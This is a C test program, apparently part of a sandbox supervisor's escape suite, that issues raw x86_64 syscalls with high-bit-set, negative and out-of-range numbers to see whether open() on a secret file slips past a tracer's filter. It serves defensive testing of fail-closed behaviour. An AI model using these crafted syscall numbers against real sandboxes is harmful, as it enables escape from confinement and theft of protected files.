/* e0801-syscall-numbers - system call numbers a table does not list.
 *
 * Attack: on x86_64 the kernel takes the number from the low 32 bits of
 * rax (a signed int), while a tracer sees all 64 bits of orig_rax: with
 * high bits set, open() is a number no table has, which a supervisor
 * must not let through as "unknown, so harmless".  Also -1, numbers just
 * beyond and far beyond the table, and a negative 32-bit number; each
 * with the secret's path as first argument; whatever opens is read.
 * Source: janus team (DESIGN.md "invalid or out-of-range numbers"; fail
 * closed).
 * Usage: e0801-syscall-numbers SECRET */
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"

#if defined(__x86_64__)
static long raw3(unsigned long nr, long a, long b, long c)
{
	long r;
	__asm__ volatile ("syscall" : "=a"(r) : "a"(nr), "D"(a), "S"(b), "d"(c)
			  : "rcx", "r11", "memory");
	return r;
}

static void attempt(const char *label, unsigned long nr, long a, long b, long c)
{
	esc_show_fd(label, raw3(nr, a, b, c));
}
#endif

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0801-syscall-numbers SECRET");
#if defined(__x86_64__)
	long s = (long)argv[1];
	attempt("open with bit 32 set", (1UL << 32) | SYS_open, s, O_RDONLY, 0);
	attempt("open with the high 32 bits set", 0xffffffff00000000UL | SYS_open, s, O_RDONLY, 0);
	attempt("openat with bit 40 set", (1UL << 40) | SYS_openat, AT_FDCWD, s, O_RDONLY);
	attempt("number -1", (unsigned long)-1L, s, O_RDONLY, 0);
	attempt("number 0x7fffffff", 0x7fffffffUL, s, O_RDONLY, 0);
	attempt("number 0x80000002 (negative as int)", 0x80000000UL | SYS_open, s, O_RDONLY, 0);
	attempt("number 1000 (beyond the table)", 1000, s, O_RDONLY, 0);
	attempt("number 600 (x32-only range, no x32 bit)", 600, s, O_RDONLY, 0);
	return 0;
#else
	(void)argv;
	fprintf(stderr, "SKIP: written for x86_64\n");
	return ESC_SKIP;
#endif
}
